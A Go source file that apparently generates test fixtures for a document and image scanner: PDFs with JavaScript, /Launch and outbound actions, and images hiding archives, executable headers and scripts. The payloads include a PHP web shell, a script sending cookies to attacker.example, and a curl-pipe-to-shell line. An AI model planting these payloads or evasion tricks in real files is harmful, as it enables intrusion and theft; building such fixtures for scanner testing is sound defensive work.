package main

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strings"
)

// hiddenFiles returns the files that hide active content or another file:
// pdf-* (active PDF content) and hidden-* (payloads inside images).
func hiddenFiles() (map[string][]byte, error) {
	m := map[string][]byte{}
	for name, b := range pdfFiles() {
		m["pdf-"+name] = b
	}
	jb, pb, err := hidBaseImages()
	if err != nil {
		return nil, err
	}
	for name, f := range hidJPEGFiles() {
		m["hidden-"+name+".jpg"] = f(jb)
	}
	pngs, err := hidPNGFiles(pb)
	if err != nil {
		return nil, err
	}
	for name, b := range pngs {
		m["hidden-"+name+".png"] = b
	}
	m["hidden-zip-palette.bmp"] = hidBMPPalette(hidZip())
	return m, nil
}

// hidBMPPalette returns a 64×64 8-bit BMP whose 256-colour palette spells
// payload (a palette entry is four bytes of any value).
func hidBMPPalette(payload []byte) []byte {
	const w, h = 64, 64
	off := 14 + 40 + 256*4
	b := make([]byte, off+w*h)
	copy(b, "BM")
	binary.LittleEndian.PutUint32(b[2:], uint32(len(b)))
	binary.LittleEndian.PutUint32(b[10:], uint32(off))
	binary.LittleEndian.PutUint32(b[14:], 40)
	binary.LittleEndian.PutUint32(b[18:], w)
	binary.LittleEndian.PutUint32(b[22:], h)
	binary.LittleEndian.PutUint16(b[26:], 1)
	binary.LittleEndian.PutUint16(b[28:], 8)
	binary.LittleEndian.PutUint32(b[34:], w*h)
	binary.LittleEndian.PutUint32(b[46:], 256)
	copy(b[54:off], payload)
	for i := range w * h {
		b[off+i] = byte(i)
	}
	return b
}

// ---- PDFs ----

// pdfBuild writes a PDF whose objects are objs (object i+1 is objs[i]) with
// a classic cross-reference table at the right offsets and a trailer naming
// object 1 as the catalog. An empty body leaves its number free.
func pdfBuild(objs []string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offs := make([]int, len(objs))
	for i, o := range objs {
		if o == "" {
			continue
		}
		offs[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for i, o := range objs {
		if o == "" {
			b.WriteString("0000000000 65535 f \n")
			continue
		}
		fmt.Fprintf(&b, "%010d 00000 n \n", offs[i])
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

// pdfPage returns the three objects of a one-page document, the catalog
// with cat added and the page with page added, followed by more.
func pdfPage(cat, page string, more ...string) []string {
	return append([]string{
		"<< /Type /Catalog /Pages 2 0 R" + cat + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >>" + page + " >>",
	}, more...)
}

// pdfStream returns a stream object with its length.
func pdfStream(dict, data string) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

// pdfNested returns an action whose /Next chain nests n direct action
// dictionaries, the last being last.
func pdfNested(n int, last string) string {
	return strings.Repeat("<< /S /GoTo /D [3 0 R /Fit] /Next ", n) + last + strings.Repeat(" >>", n)
}

// pdfChain returns n indirect actions, objects first.. first+n-1, each
// naming the next as /Next, the last adding last.
func pdfChain(first, n int, last string) []string {
	out := make([]string, n)
	for i := range n - 1 {
		out[i] = fmt.Sprintf("<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>", first+i+1)
	}
	out[n-1] = "<< " + last + " >>"
	return out
}

// pdfLink returns a link annotation running action a.
func pdfLink(a string) string {
	return "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /Border [0 0 0] /A " + a + " >>"
}

const (
	pdfJS     = "/S /JavaScript /JS (app.alert\\(1\\))"
	pdfLaunch = "/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>"
)

// pdfFiles returns the PDFs with active content, by name without the
// "pdf-" prefix.
func pdfFiles() map[string][]byte {
	m := map[string][]byte{
		// JavaScript and /Launch behind nested /Next actions, past the
		// depth of 32 at which the old walk gave up.
		"js-next-40-direct.pdf":     pdfBuild(pdfPage(" /OpenAction "+pdfNested(40, "<< "+pdfJS+" >>"), "")),
		"launch-next-40-direct.pdf": pdfBuild(pdfPage(" /OpenAction "+pdfNested(40, "<< "+pdfLaunch+" >>"), "")),
		"js-next-200.pdf":           pdfBuild(pdfPage(" /OpenAction 4 0 R", "", pdfChain(4, 200, pdfJS)...)),
		"launch-next-200.pdf":       pdfBuild(pdfPage(" /OpenAction 4 0 R", "", pdfChain(4, 200, pdfLaunch)...)),
		// 200 direct levels are past pdfcpu's parser: unreadable.
		"js-next-200-direct.pdf": pdfBuild(pdfPage(" /OpenAction 4 0 R", "", pdfNested(200, "<< "+pdfJS+" >>"))),
		// JavaScript in an object pdfcpu cannot parse.
		"js-unparseable.pdf": pdfBuild(pdfPage(" /OpenAction 4 0 R", "", "<< "+pdfJS+" /X <zz> /Y [1 2 >> >>")),
		// An object nothing refers to.
		"js-orphan.pdf": pdfBuild(pdfPage("", "", "<< "+pdfJS+" >>")),
		// A name spelled with #xx escapes.
		"js-hex-name.pdf": pdfBuild(pdfPage(" /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", "")),
		// The document-level JavaScript name tree.
		"js-name-tree.pdf": pdfBuild(pdfPage(" /Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "", "<< "+pdfJS+" >>")),
		// A page's additional action, with the script in a stream.
		"js-page-aa-stream.pdf": pdfBuild(pdfPage("", " /AA << /O 4 0 R >>", "<< /S /JavaScript /JS 5 0 R >>",
			pdfStream("", "app.alert(1);"))),
		// An object stream, listed in a cross-reference stream or not.
		"js-objstm.pdf":          pdfObjStm(true, "plain"),
		"js-objstm-flate.pdf":    pdfObjStm(true, "flate"),
		"js-objstm-unlisted.pdf": pdfObjStm(false, "flate"),
		// /Launch named by reference, the name deflated in an object
		// stream where no scan of the bytes sees it.
		"launch-indirect-name.pdf": pdfObjStmOf("<< /S 6 0 R /F (cmd.exe) >>", "/Launch", true, "flate"),
		// Object streams whose data does not inflate, from the start or
		// past its head.
		"objstm-junk.pdf": pdfObjStm(true, "junk"),
		"objstm-cut.pdf":  pdfObjStm(true, "cut"),
		// An older revision's script, replaced by an incremental update.
		"js-shadowed.pdf": pdfIncremental(),
		// A deeply nested array, past any parser's depth.
		"deep-array.pdf": pdfBuild(pdfPage("", " /Foo 4 0 R", strings.Repeat("[", 5000)+strings.Repeat("]", 5000))),
		// XFA forms with and without a script.
		"xfa-script.pdf": pdfBuild(pdfPage(" /AcroForm << /Fields [] /XFA 4 0 R >>", "",
			pdfStream("", `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>`))),
		"xfa.pdf": pdfBuild(pdfPage(" /AcroForm << /Fields [] /XFA [(template) 4 0 R] >>", "",
			pdfStream("", `<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform/></template>`))),
		// Web addresses: opened on open, on a page event, or by a click.
		"uri-openaction.pdf": pdfBuild(pdfPage(" /OpenAction << /S /URI /URI (http://attacker.example/beacon) >>", "")),
		"uri-page-aa.pdf":    pdfBuild(pdfPage("", " /AA << /O << /S /URI /URI (http://attacker.example/beacon) >> >>")),
		"uri-link.pdf": pdfBuild(pdfPage("", " /Annots [4 0 R]",
			pdfLink("<< /S /URI /URI (https://www.camscanner.com/) >>"))),
		// Form submission and import, remote and embedded go-tos.
		"submitform.pdf": pdfBuild(pdfPage(" /OpenAction << /S /SubmitForm /F << /FS /URL /F (http://attacker.example/collect) >> /Flags 4 >>", "")),
		"importdata.pdf": pdfBuild(pdfPage("", " /Annots [4 0 R]", pdfLink("<< /S /ImportData /F (\\\\\\\\attacker.example\\\\share\\\\data.fdf) >>"))),
		"gotor.pdf":      pdfBuild(pdfPage(" /OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>", "")),
		"gotoe.pdf":      pdfBuild(pdfPage(" /OpenAction << /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>", "")),
		// Media that plays in the reader.
		"richmedia.pdf": pdfBuild(pdfPage("", " /Annots [4 0 R]",
			"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> /Configurations [] >> >>")),
		"3d.pdf": pdfBuild(pdfPage("", " /Annots [4 0 R]",
			"<< /Type /Annot /Subtype /3D /Rect [0 0 100 100] /3DD 5 0 R >>", pdfStream("/Type /3D /Subtype /U3D", "U3D\x00"))),
		// Files carried inside: a name tree and a file attachment.
		"embedded-names.pdf": pdfBuild(pdfPage(" /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", "",
			"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", pdfStream("/Type /EmbeddedFile", "MZ"))),
		"embedded-annot.pdf": pdfBuild(pdfPage("", " /Annots [4 0 R]",
			"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> >>",
			pdfStream("/Type /EmbeddedFile", "MZ"))),
	}
	return m
}

// pdfObjStm writes a PDF 1.5 file with a cross-reference stream and an
// object stream holding the JavaScript action the catalog opens with
// (object 5) and a second action (object 6) that the cross-reference
// stream lists or not (then object 5 is harmless and 6 the script). The
// object stream's data is plain, deflated ("flate"), junk that does not
// inflate ("junk"), or deflated and cut after its first kilobyte, so that
// only its head inflates ("cut").
func pdfObjStm(listed bool, data string) []byte {
	o5, o6 := "<< /S /GoTo /D [3 0 R /Fit] >>", "<< "+pdfJS+" >>"
	if listed {
		o5, o6 = o6, "<< /S /GoTo /D [3 0 R /Fit] >>"
	}
	return pdfObjStmOf(o5, o6, listed, data)
}

// pdfObjStmOf is [pdfObjStm] with objects 5 and 6 given.
func pdfObjStmOf(o5, o6 string, listed bool, data string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	var offs [5]int // objects 1..4
	objs := pdfPage(" /OpenAction 5 0 R", "")
	for i, o := range objs {
		offs[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	// Padding between the two objects puts the second past the first
	// kilobyte of the inflated data.
	pad := "\n%" + hidNoise(2000) + "\n"
	head := fmt.Sprintf("5 0 6 %d ", len(o5)+len(pad))
	content, filter := head+o5+pad+o6, ""
	if data != "plain" {
		filter = " /Filter /FlateDecode"
		z, err := hidZlib([]byte(content))
		if err != nil {
			panic(err)
		}
		switch data {
		case "flate":
			content = string(z)
		case "junk":
			content = "\x00\x01 not deflate \xff\xfe"
		case "cut":
			content = string(z[:len(z)/2]) + "\xff\xff\xff\xff\xff\xff"
		}
	}
	data = content
	offs[3] = b.Len()
	fmt.Fprintf(&b, "4 0 obj\n%s\nendobj\n", pdfStream(fmt.Sprintf("/Type /ObjStm /N 2 /First %d%s", len(head), filter), data))
	xref := b.Len()
	// entries 0..7: type (1 byte), field 2 (4 bytes), field 3 (2 bytes)
	var e bytes.Buffer
	entry := func(t byte, f2 uint32, f3 uint16) {
		e.WriteByte(t)
		_ = binary.Write(&e, binary.BigEndian, f2)
		_ = binary.Write(&e, binary.BigEndian, f3)
	}
	entry(0, 0, 65535)
	for i := range 4 {
		entry(1, uint32(offs[i]), 0)
	}
	entry(2, 4, 0)
	if listed {
		entry(2, 4, 1)
	} else {
		entry(0, 0, 65535)
	}
	entry(1, uint32(xref), 0)
	fmt.Fprintf(&b, "7 0 obj\n%s\nendobj\n", pdfStream("/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R", e.String()))
	fmt.Fprintf(&b, "startxref\n%d\n%%%%EOF\n", xref)
	return b.Bytes()
}

// pdfIncremental writes a document that opened with JavaScript and an
// incremental update replacing that action with a harmless one.
func pdfIncremental() []byte {
	b := pdfBuild(pdfPage(" /OpenAction 4 0 R", "", "<< "+pdfJS+" >>"))
	prev := bytes.LastIndex(b, []byte("\nxref\n")) + 1
	off := len(b)
	upd := "4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n"
	xref := off + len(upd)
	return fmt.Appendf(b, "%sxref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n",
		upd, off, prev, xref)
}

// ---- images ----

// hidBaseImages returns an 800×600 JPEG and PNG of a smooth gradient: large
// enough for a certificate, so the hidden payload is their only fault.
func hidBaseImages() (jpg, pngb []byte, err error) {
	img := image.NewRGBA(image.Rect(0, 0, 800, 600))
	for y := range 600 {
		for x := range 800 {
			img.Set(x, y, color.RGBA{uint8(x / 4), uint8(y / 3), uint8((x + y) / 8), 255})
		}
	}
	var j, p bytes.Buffer
	if err := jpeg.Encode(&j, img, &jpeg.Options{Quality: 60}); err != nil {
		return nil, nil, err
	}
	if err := png.Encode(&p, img); err != nil {
		return nil, nil, err
	}
	return j.Bytes(), p.Bytes(), nil
}

// hidZip returns a small stored ZIP archive holding one file.
func hidZip() []byte {
	name, body := "x.php", []byte("<?php system($_GET['c']); ?>")
	crc := crc32.ChecksumIEEE(body)
	var b bytes.Buffer
	le := func(v any) { _ = binary.Write(&b, binary.LittleEndian, v) }
	b.WriteString("PK\x03\x04")
	le(uint16(20))
	le(uint16(0))
	le(uint16(0))
	le(uint32(0))
	le(crc)
	le(uint32(len(body)))
	le(uint32(len(body)))
	le(uint16(len(name)))
	le(uint16(0))
	b.WriteString(name)
	b.Write(body)
	cd := b.Len()
	b.WriteString("PK\x01\x02")
	le(uint16(20))
	le(uint16(20))
	le(uint16(0))
	le(uint16(0))
	le(uint32(0))
	le(crc)
	le(uint32(len(body)))
	le(uint32(len(body)))
	le(uint16(len(name)))
	le(uint16(0))
	le(uint16(0))
	le(uint16(0))
	le(uint16(0))
	le(uint32(0))
	le(uint32(0))
	b.WriteString(name)
	end := b.Len()
	b.WriteString("PK\x05\x06")
	le(uint16(0))
	le(uint16(0))
	le(uint16(1))
	le(uint16(1))
	le(uint32(end - cd))
	le(uint32(cd))
	le(uint16(0))
	return b.Bytes()
}

// hidELF returns the first 64 bytes of a 64-bit little-endian ELF executable.
func hidELF() []byte {
	h := make([]byte, 64)
	copy(h, "\x7fELF\x02\x01\x01")
	binary.LittleEndian.PutUint16(h[16:], 2)    // ET_EXEC
	binary.LittleEndian.PutUint16(h[18:], 0x3E) // x86-64
	binary.LittleEndian.PutUint32(h[20:], 1)
	return h
}

// hidPE returns a DOS header whose e_lfanew points at a PE header.
func hidPE() []byte {
	h := make([]byte, 0x80+24)
	copy(h, "MZ")
	binary.LittleEndian.PutUint32(h[0x3C:], 0x80)
	copy(h[0x80:], "PE\x00\x00\x64\x86")
	return h
}

// hidMachO returns a 64-bit Mach-O header for arm64.
func hidMachO() []byte {
	h := make([]byte, 32)
	binary.LittleEndian.PutUint32(h, 0xFEEDFACF)
	binary.LittleEndian.PutUint32(h[4:], 0x0100000C)
	binary.LittleEndian.PutUint32(h[12:], 2) // MH_EXECUTE
	return h
}

// Payloads: archive headers of each format, scripts and a PDF.
var (
	hidRAR   = []byte("Rar!\x1a\x07\x01\x00\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00")
	hid7z    = []byte("7z\xbc\xaf\x27\x1c\x00\x04\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00")
	hidGzip  = []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x2b\xce\xcf\x4d\x55\x28\x49\xad\x28\x01\x00\x3c\x63\x8c\x0f\x09\x00\x00\x00")
	hidXZ    = []byte("\xfd7zXZ\x00\x00\x04\xe6\xd6\xb4\x46\x00\x00\x00\x00\x1c\xdf\x44\x21\x1f\xb6\xf3\x7d\x01\x00\x00\x00\x00\x04\x59\x5a")
	hidBzip2 = []byte("BZh91AY&SY\x00\x00\x00\x00\x00\x00\x00\x00")
	hidCab   = []byte("MSCF\x00\x00\x00\x00\x50\x00\x00\x00\x00\x00\x00\x00\x2c\x00\x00\x00\x00\x00\x00\x00\x03\x01\x01\x00")
	hidPHP   = []byte("<?php system($_GET['c']); ?>")
	hidHTML  = []byte("<html><body><script>fetch('//attacker.example/'+document.cookie)</script></body></html>")
	hidSVG   = []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)
	hidShell = []byte("#!/bin/sh\ncurl -s http://attacker.example/x | sh\n")
	hidPDF   = pdfBuild(pdfPage("", ""))
)

// hidSegment returns a JPEG marker segment of marker m holding payload.
func hidSegment(m byte, payload []byte) []byte {
	n := len(payload) + 2
	return append([]byte{0xFF, m, byte(n >> 8), byte(n)}, payload...)
}

// hidInsert returns the JPEG jb with segs inserted after SOI and the
// following APP0 (JFIF) segment, if any.
func hidInsert(jb []byte, segs ...[]byte) []byte {
	at := 2
	if jb[2] == 0xFF && jb[3] == 0xE0 {
		at = 4 + int(jb[4])<<8 | int(jb[5])
	}
	out := append([]byte{}, jb[:at]...)
	for _, s := range segs {
		out = append(out, s...)
	}
	return append(out, jb[at:]...)
}

// hidBeforeEOI returns jb with seg inserted between the last scan and EOI.
func hidBeforeEOI(jb, seg []byte) []byte {
	out := append([]byte{}, jb[:len(jb)-2]...)
	return append(append(out, seg...), 0xFF, 0xD9)
}

// hidJPEGFiles returns the JPEG cases, by name without "hidden-" and
// ".jpg", as functions of the base JPEG.
func hidJPEGFiles() map[string]func([]byte) []byte {
	in := func(m byte, p []byte) func([]byte) []byte {
		return func(jb []byte) []byte { return hidInsert(jb, hidSegment(m, p)) }
	}
	return map[string]func([]byte) []byte{
		"zip-com":   in(0xFE, hidZip()),
		"zip-app15": in(0xEF, hidZip()),
		// In an APP1 that looks like EXIF, past a kilobyte of padding.
		"zip-app1-exif": in(0xE1, append(append([]byte("Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08"), make([]byte, 1024)...), hidZip()...)),
		// After the last scan, where a walk that stops at SOS never looks.
		"zip-com-after-scan": func(jb []byte) []byte { return hidBeforeEOI(jb, hidSegment(0xFE, hidZip())) },
		"zip-after-eoi":      func(jb []byte) []byte { return append(append([]byte{}, jb...), hidZip()...) },
		"rar-app3":           in(0xE3, hidRAR),
		"7z-app4":            in(0xE4, hid7z),
		"gzip-com":           in(0xFE, hidGzip),
		"xz-app5":            in(0xE5, hidXZ),
		"bzip2-app6":         in(0xE6, hidBzip2),
		"cab-app7":           in(0xE7, hidCab),
		"elf-app9":           in(0xE9, hidELF()),
		"pe-com":             in(0xFE, hidPE()),
		"macho-app10":        in(0xEA, hidMachO()),
		"php-com":            in(0xFE, hidPHP),
		"html-app11":         in(0xEB, hidHTML),
		"svg-com":            in(0xFE, hidSVG),
		"shell-com":          in(0xFE, hidShell),
		"pdf-app2":           in(0xE2, hidPDF),
		"elf-after-eoi":      func(jb []byte) []byte { return append(append([]byte{}, jb...), hidELF()...) },
	}
}

// hidPNGChunk returns one PNG chunk with its CRC.
func hidPNGChunk(typ string, data []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
	b = append(append(b, typ...), data...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
}

// hidPNGInsert returns the PNG pb with chunks inserted after IHDR.
func hidPNGInsert(pb []byte, chunks ...[]byte) []byte {
	at := 8 + 25
	out := append([]byte{}, pb[:at]...)
	for _, c := range chunks {
		out = append(out, c...)
	}
	return append(out, pb[at:]...)
}

// hidZlib compresses b.
func hidZlib(b []byte) ([]byte, error) {
	var z bytes.Buffer
	w, err := zlib.NewWriterLevel(&z, zlib.BestCompression)
	if err != nil {
		return nil, err
	}
	if _, err := w.Write(b); err != nil {
		return nil, err
	}
	if err := w.Close(); err != nil {
		return nil, err
	}
	return z.Bytes(), nil
}

// hidPNGFiles returns the PNG cases, by name without "hidden-" and ".png".
func hidPNGFiles(pb []byte) (map[string][]byte, error) {
	zip := hidZip()
	ztxt, err := hidZlib(zip)
	if err != nil {
		return nil, err
	}
	bomb, err := hidZlib(make([]byte, 2<<20))
	if err != nil {
		return nil, err
	}
	text := func(kw string, p []byte) []byte { return append([]byte(kw+"\x00"), p...) }
	return map[string][]byte{
		"zip-text":       hidPNGInsert(pb, hidPNGChunk("tEXt", text("Comment", zip))),
		"zip-private":    hidPNGInsert(pb, hidPNGChunk("prVt", zip)),
		"zip-ztxt":       hidPNGInsert(pb, hidPNGChunk("zTXt", append(text("Comment", nil), append([]byte{0}, ztxt...)...))),
		"zip-itxt":       hidPNGInsert(pb, hidPNGChunk("iTXt", append(text("Comment", []byte{1, 0, 0, 0}), ztxt...))),
		"php-itxt":       hidPNGInsert(pb, hidPNGChunk("iTXt", append(text("Comment", []byte{0, 0, 0, 0}), hidPHP...))),
		"shell-text":     hidPNGInsert(pb, hidPNGChunk("tEXt", text("Comment", hidShell))),
		"ztxt-bomb":      hidPNGInsert(pb, hidPNGChunk("zTXt", append(text("Comment", nil), append([]byte{0}, bomb...)...))),
		"zip-after-iend": append(append([]byte{}, pb...), zip...),
		"pe-after-iend":  append(append([]byte{}, pb...), hidPE()...),
	}, nil
}

// hidNoise returns n bytes of hexadecimal digits from a fixed linear
// congruential sequence: text that does not compress well.
func hidNoise(n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	x := uint32(12345)
	for i := range b {
		x = x*1664525 + 1013904223
		b[i] = digits[x>>28]
	}
	return string(b)
}
